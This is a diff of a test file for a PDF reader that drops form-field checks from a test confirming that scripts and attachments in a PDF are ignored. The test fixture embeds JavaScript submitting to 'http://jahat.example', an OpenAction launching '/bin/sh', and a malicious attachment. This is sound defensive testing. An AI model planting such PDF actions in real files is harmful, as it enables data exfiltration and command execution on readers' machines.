@@ -70,15 +70,12 @@ describe("what is strange and harmless is read", () => {
 		expect(catatan.join()).toMatch(/membatasi penyalinannya/);
 	});
 
-	it("scripts, forms and attachments are not looked at", async () => {
+	it("scripts and attachments are not looked at", async () => {
 		const kertas = await sehat();
 		const { doc } = kertas;
 		doc.addJavaScript("jahat", "app.alert('x'); this.submitForm('http://jahat.example')");
 		doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "Launch", F: PDFString.of("/bin/sh") }));
 		await doc.attach(Buffer.from("# Lampiran jahat"), "jahat.md");
-		const isian = doc.getForm().createTextField("isian");
-		isian.setText("isi formulir");
-		isian.addToPage(kertas.page, { x: 72, y: 300 });
 		expect((await kertas.baca()).map(ringkas)).toEqual([PENGISI]);
 	});
 
